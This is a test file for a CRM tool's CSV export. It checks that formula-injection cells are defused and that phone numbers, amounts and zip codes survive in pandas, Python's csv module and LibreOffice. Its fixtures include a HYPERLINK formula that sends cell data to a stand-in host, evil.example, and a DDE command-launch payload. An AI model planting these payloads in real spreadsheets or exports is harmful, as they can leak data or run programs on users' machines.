"""`export csv` as pandas, Python's csv module and LibreOffice (headless) read it.

Only cells a spreadsheet would run as a formula get the defusing quote; phone
numbers and negative amounts go out as they are. `--excel` writes numbers with the
workspace locale's decimal mark and keeps digits such as a zip `0150` as text.

The LibreOffice tests convert the CSV to a flat ODS file with `soffice --headless`
and read each cell's type and value from it. They are skipped when `soffice` is not
installed (`make test-deps` installs it where it can: libreoffice-calc-nogui).
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from crmkit.store import yamlio

RECORDS = {
    "companies/nordvik-as.yaml": (
        'name: Nordvik AS\nphone: "+47 22 33 44 55"\naddress:\n  zip: "0150"\n  city: Oslo\n'
        'notes: "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"click\\")"\n'),
    "contacts/ingrid-solberg.yaml": (
        'name: Ingrid Solberg\nphone: "+46701234567"\ncompany: nordvik-as\n'
        'title: "-cmd|\' /C calc\'!A0"\nnotes: "@SUM(1+1)"\n'
        'phones:\n  - type: mobile\n    value: "+47 934 56 120"\n'),
    "contacts/zoltan-kiss.yaml": 'name: Zoltán Kiss\nphone: "+36 (1) 234-5678"\ntitle: "- not a list"\n',
    "deals/refund.yaml": "title: Credit note\ncompany: nordvik-as\nstage: lead\nvalue: -5000\nprobability: 0.25\n",
    "deals/erp.yaml": 'title: ERP\ncompany: nordvik-as\nstage: lead\nvalue: "1234.50"\n',
}
FORMULAS = ["=HYPERLINK(", "-cmd|", "@SUM(", "- not a list"]


@pytest.fixture
def ws(make_ws) -> Path:
    return make_ws(RECORDS)


def _export(run, ws: Path, kind: str, *extra: str) -> str:
    r = run(["export", "csv", "--kind", kind, *extra], ws)
    assert r.exit_code == 0, r.stderr
    return r.stdout


def _rows(text: str, delimiter: str = ",") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=delimiter))


def test_python_csv_reads_phones_and_negative_amounts_unchanged(run, ws: Path) -> None:
    contacts = {r["id"]: r for r in _rows(_export(run, ws, "contact"))}
    assert contacts["ingrid-solberg"]["phone"] == "+46701234567"
    assert contacts["zoltan-kiss"]["phone"] == "+36 (1) 234-5678"
    deals = {r["id"]: r for r in _rows(_export(run, ws, "deal"))}
    assert deals["refund"]["value"] == "-5000"
    # what a spreadsheet would run is still defused
    assert contacts["ingrid-solberg"]["title"] == "'-cmd|' /C calc'!A0"
    assert contacts["ingrid-solberg"]["notes"] == "'@SUM(1+1)"
    assert contacts["zoltan-kiss"]["title"] == "'- not a list"


def test_pandas_reads_the_values_the_records_hold(run, ws: Path) -> None:
    pandas = pytest.importorskip("pandas")
    frame = pandas.read_csv(io.StringIO(_export(run, ws, "contact")), dtype=str, keep_default_na=False)
    phones = dict(zip(frame["id"], frame["phone"]))
    assert phones == {"ingrid-solberg": "+46701234567", "zoltan-kiss": "+36 (1) 234-5678"}
    deals = pandas.read_csv(io.StringIO(_export(run, ws, "deal")))
    assert dict(zip(deals["id"], deals["value"])) == {"erp": 1234.5, "refund": -5000.0}
    # without dtype=str pandas makes numbers of what looks like numbers, and keeps text as text
    assert not any(str(v).startswith("'") for v in frame["phone"])


def test_excel_export_uses_the_locale_decimal_mark_and_keeps_zip_codes(run, ws: Path) -> None:
    deals = {r["id"]: r for r in _rows(_export(run, ws, "deal", "--excel"), ";")}
    assert deals["erp"]["value"] == "1234,50" and deals["refund"]["value"] == "-5000"
    assert deals["refund"]["probability"] == "0,25"
    companies = {r["id"]: r for r in _rows(_export(run, ws, "company", "--excel"), ";")}
    assert companies["nordvik-as"]["address.zip"] == '="0150"'
    en = ws / "crmkit.yaml"
    en.write_text(en.read_text(encoding="utf-8").replace("locale: sv_SE", "locale: en_GB"), encoding="utf-8")
    deals = {r["id"]: r for r in _rows(_export(run, ws, "deal", "--excel"), ";")}
    assert deals["erp"]["value"] == "1234.50"


def test_excel_export_imports_back_field_by_field(run, ws: Path, make_ws, tmp_path: Path) -> None:
    dst = make_ws()
    for kind in ("company", "contact", "deal"):
        path = tmp_path / f"{kind}.csv"
        assert run(["export", "csv", "--kind", kind, "--excel", "-o", str(path)], ws).exit_code == 0
        r = run(["import", "csv", str(path), "--kind", kind], dst)
        assert r.exit_code == 0, r.stdout + r.stderr
    for folder in ("companies", "contacts", "deals"):
        for path in sorted((ws / folder).glob("*.yaml")):
            mine, theirs = yamlio.load_fast(path), yamlio.load_fast(dst / folder / path.name)
            theirs = {k: v for k, v in theirs.items() if k in mine}
            assert theirs == mine, path.name


# -- LibreOffice ---------------------------------------------------------------------------

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
needs_soffice = pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
_NS = {"table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
       "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
       "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0"}


def _q(prefix: str, name: str) -> str:
    return f"{{{_NS[prefix]}}}{name}"


def libreoffice_cells(csv_path: Path, *, separator: str, language: int) -> list[list[dict[str, str | None]]]:
    """Each cell as LibreOffice Calc reads the CSV: its type, value, shown text and formula.

    The filter options are LibreOffice's defaults for a UTF-8 file with this separator
    and locale (language 1033 en-US, 1053 sv-SE); formulas are evaluated, as they are
    when a user opens the file.
    """
    out = csv_path.parent / "lo"
    profile = csv_path.parent / "lo-profile"
    options = f"CSV:{ord(separator)},34,76,1,,{language},false,false,false,false,false,-1,true"
    env = dict(os.environ, HOME=str(csv_path.parent))
    subprocess.run([str(SOFFICE), "--headless", "--norestore", f"-env:UserInstallation={profile.as_uri()}",
                    f"--infilter={options}", "--convert-to", "fods", "--outdir", str(out), str(csv_path)],
                   check=True, capture_output=True, timeout=180, env=env)
    tree = ET.parse(out / (csv_path.stem + ".fods"))
    grid = []
    for row in tree.iter(_q("table", "table-row")):
        cells = []
        for c in row.findall(_q("table", "table-cell")):
            repeat = int(c.get(_q("table", "number-columns-repeated"), "1"))
            shown = "\n".join("".join(p.itertext()) for p in c.findall(_q("text", "p")))
            cell = {"type": c.get(_q("office", "value-type")), "value": c.get(_q("office", "value")),
                    "text": shown, "formula": c.get(_q("table", "formula"))}
            cells += [cell] * min(repeat, 50)
        grid.append(cells)
    return grid


def _by_column(grid: list[list[dict]]) -> dict[str, dict[str, dict]]:
    header = [c["text"] for c in grid[0]]
    return {row[0]["text"]: dict(zip(header, row)) for row in grid[1:] if row and row[0]["text"]}


@needs_soffice
def test_libreoffice_reads_phones_and_amounts_as_they_are_and_runs_no_formula(run, ws: Path, tmp_path: Path) -> None:
    contacts, deals = tmp_path / "contacts.csv", tmp_path / "deals.csv"
    contacts.write_text(_export(run, ws, "contact"), encoding="utf-8", newline="")
    deals.write_text(_export(run, ws, "deal"), encoding="utf-8", newline="")
    people = _by_column(libreoffice_cells(contacts, separator=",", language=1033))
    assert people["zoltan-kiss"]["phone"]["text"] == "+36 (1) 234-5678"
    assert people["zoltan-kiss"]["phone"]["type"] == "string"
    money = _by_column(libreoffice_cells(deals, separator=",", language=1033))
    assert money["refund"]["value"]["type"] == "float" and money["refund"]["value"]["value"] == "-5000"
    cells = [c for row in people.values() for c in row.values()]
    assert not any(c["formula"] for c in cells), [c for c in cells if c["formula"]]
    shown = [c["text"] for c in cells]
    for start in FORMULAS[1:]:
        assert any(start in s for s in shown), start
    assert not any(s.startswith("'+") or s.startswith("'-5") for s in shown)


@needs_soffice
def test_libreoffice_in_swedish_reads_excel_export_numbers_and_zip_codes(run, ws: Path, tmp_path: Path) -> None:
    deals, companies, contacts = tmp_path / "deals.csv", tmp_path / "companies.csv", tmp_path / "contacts.csv"
    deals.write_text(_export(run, ws, "deal", "--excel"), encoding="utf-8", newline="")
    companies.write_text(_export(run, ws, "company", "--excel"), encoding="utf-8", newline="")
    contacts.write_text(_export(run, ws, "contact", "--excel"), encoding="utf-8", newline="")
    money = _by_column(libreoffice_cells(deals, separator=";", language=1053))
    assert money["erp"]["value"]["type"] == "float" and money["erp"]["value"]["value"] == "1234.5"
    assert money["refund"]["probability"]["value"] == "0.25"
    firms = _by_column(libreoffice_cells(companies, separator=";", language=1053))
    zip_cell = firms["nordvik-as"]["address.zip"]
    assert zip_cell["type"] == "string" and zip_cell["text"] == "0150"
    assert "HYPERLINK" in firms["nordvik-as"]["notes"]["text"] and not firms["nordvik-as"]["notes"]["formula"]
    people = _by_column(libreoffice_cells(contacts, separator=";", language=1053))
    phone = people["ingrid-solberg"]["phone"]
    assert phone["type"] == "string" and phone["text"] == "+46701234567"
